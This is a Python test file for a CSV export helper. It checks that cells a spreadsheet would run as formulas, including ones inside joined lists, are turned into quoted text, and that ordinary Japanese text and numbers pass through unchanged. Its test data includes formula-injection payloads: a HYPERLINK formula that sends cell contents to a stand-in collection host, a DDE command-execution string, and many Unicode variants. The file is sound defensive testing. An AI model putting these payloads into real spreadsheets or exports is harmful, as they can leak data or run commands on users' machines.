"""Formula injection through exports (Kimai CVE-2026-42267: neutralised in single cells, run from lists joined into one)."""

import csv
import io
from datetime import date

import pytest

from workflows.runtime.tables_out import csv_text, safe_text

RUN = (
    '=HYPERLINK("https://collect.example/?"&A1,"開く")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "  =1", "\u3000＝1", "＝1", "＋1", "－1", "＠SUM(A1)", "−1", "\u200b=1", "\ufeff=1", "\x00=1", " \r\n\t =1", "|calc", "\u00a0=1",
)  # fmt: skip
KEPT = ("議事録の下書き", "a=b", "1,234", "", "「=」は式", "風見市", "3-4 月", "…=1")


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", RUN)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert safe_text(cell).startswith("'")
    assert read(csv_text([["題"], [cell]])) == [["題"], [safe_text(cell)]]


@pytest.mark.parametrize("cell", RUN)
def test_a_formula_inside_a_joined_list_is_text(cell: str) -> None:
    ((joined,),) = read(csv_text([[["会議", cell]]]))
    assert joined == f"会議、{safe_text(cell)}"
    ((first,),) = read(csv_text([[[cell, "会議"]]]))
    assert first.startswith("'")


def test_ordinary_text_and_numbers_stay_as_they_are() -> None:
    assert [safe_text(text) for text in KEPT] == list(KEPT)
    rows = read(
        csv_text([["名前", "差", "日", "公開", "備考"], ['"庁内"\n二行', -3, date(2026, 4, 1), True, None]])
    )
    assert rows[1] == ['"庁内"\n二行', "-3", "2026-04-01", "はい", ""]
